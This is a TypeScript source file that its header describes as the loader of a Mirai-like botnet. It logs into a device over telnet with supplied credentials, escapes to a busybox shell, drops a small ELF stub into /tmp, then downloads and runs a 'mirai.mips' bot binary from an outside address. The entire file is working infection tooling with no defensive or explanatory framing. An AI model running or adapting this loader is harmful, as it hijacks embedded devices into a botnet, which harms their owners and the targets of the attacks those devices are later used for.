/**
 * The loader half of a Mirai-like botnet: logs in by telnet, asks for a shell, finds out the architecture, drops a small
 * program by `echo` and fetches a larger one. Arguments: host, own address, user, password, and the port where it is not 23.
 * Prints each step that was answered.
 */

import { connect } from 'node:net';
import process from 'node:process';

const [host = '', localAddress = '', user = '', password = '', port = '23'] = process.argv.slice(2);
const token = 'ECCHI: applet not found';
const shell = '/bin/busybox ECCHI';
const steps: readonly (readonly [said: string, expected: string])[] = [
  ['', 'login: '],
  [user, 'assword'],
  [password, '# '],
  [`enable\r\nsystem\r\nshell\r\nsh\r\n${shell}`, token],
  [`/bin/busybox ps; ${shell}`, token],
  [`/bin/busybox cat /proc/mounts; ${shell}`, token],
  [
    `cd /tmp/; >.x && /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; ${shell}`,
    token,
  ],
  [`/bin/busybox cat /bin/echo | head -c 20; ${shell}`, token],
  [
    `echo -ne "\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00" > upnp; echo -ne "\\x00\\x00\\x00\\x00" >> upnp; /bin/busybox chmod 777 upnp; ./upnp; ${shell}`,
    token,
  ],
  [
    `/bin/busybox wget http://198.51.100.9:80/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; ${shell}`,
    token,
  ],
  [`./dvrHelper telnet.mips.wget; ${shell}`, token],
];

const socket = connect({ host, port: Number(port), localAddress });
let heard = '';
let at = 0;
const goOn = (): void => {
  for (let step = steps[at]; step !== undefined; step = steps[at]) {
    const found = heard.indexOf(step[1]);
    if (found < 0) return;
    heard = heard.slice(found + step[1].length);
    process.stdout.write(`answered ${at}\n`);
    at += 1;
    const next = steps[at];
    if (next === undefined) socket.end();
    else socket.write(Buffer.from(`${next[0]}\r\n`, 'latin1'));
  }
};
socket.on('data', (data) => {
  heard += data.toString('latin1');
  goOn();
});
socket.on('error', (error) => process.stdout.write(`error ${error.message}\n`));
